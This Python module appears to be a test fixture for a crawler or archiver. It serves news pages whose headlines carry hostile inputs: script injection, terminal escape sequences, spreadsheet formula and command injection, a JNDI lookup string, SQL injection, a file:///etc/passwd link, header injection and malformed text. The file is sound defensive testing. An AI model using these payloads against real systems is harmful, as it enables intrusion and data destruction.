"""Headlines that a browser, a terminal or a spreadsheet would obey."""

from .answer import always, page, story, whole
from .pages import data
from .route import Ends, Route

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b5n"


def headline(text: str):
    """In title, heading and JSON-LD, which may say what HTML may not."""
    escaped = "".join(f"\\u{ord(each):04x}" if each < " " or "\x7e" < each < "\uffff" else each for each in text)
    claim = data('{"@type": "NewsArticle", "headline": "' + escaped.replace('"', '\\"') + '", "author": {"name": "'
                 + escaped.replace('"', '\\"') + '"}, "articleSection": "' + escaped.replace('"', '\\"') + '"}')  # fmt: skip
    return story("headlines", title=text, top=claim)


ROUTES = (
    Route("title-script", "a script in the headline",
          headline("Council <script>alert(document.cookie)</script> speaks<img src=x onerror=alert(1)>")),
    Route("title-escape", "terminal escape sequences in the headline", headline(f"Council {ESCAPES} speaks of terminals")),
    Route("title-rtl", "right-to-left overrides in the headline",
          headline("Council \u202egnp.exe\u202c speaks \u2066of\u2069 directions")),
    Route("title-formula", "a formula for spreadsheets in the headline",
          headline("=HYPERLINK('http://127.0.0.9/'&A1,'Council speaks')")),
    Route("title-command", "a command for spreadsheets in the headline", headline("@SUM(1+1)*cmd|' /C calc'!A0")),
    Route("title-lines", "line ends and fields of a WARC in the headline",
          headline("Council\r\nkind: robots\r\n\r\nWARC/1.1\r\nWARC-Type: response")),
    Route("title-markup", "markup of our own terminal library in the headline",
          headline("[bold red]Council[/bold red] speaks [link=file:///etc/passwd]here[/link] [/")),
    Route("title-format", "format strings in the headline", headline("Council %s%s%n {0.__class__} ${jndi:ldap://x} speaks")),
    Route("title-sql", "SQL in the headline", headline("Council'); DROP TABLE articles;-- speaks")),
    Route("title-long", "a headline of 1 MB", story("length", title="Council speaks " * 20_000)),
    Route("title-combining", "a letter with 50,000 accents in the headline", headline("Council spe\u0061" + "\u0301" * 50_000 + "ks")),
    Route("title-empty", "a headline of zero-width characters", headline("\u200b\u200d\ufeff\u2060"), Ends(200, "")),
    Route("title-nul", "NUL and noncharacters in the headline",
          always(whole(page("nothing", title="Council \0speaks\ufffe of\uffff nothing").encode()))),
)  # fmt: skip
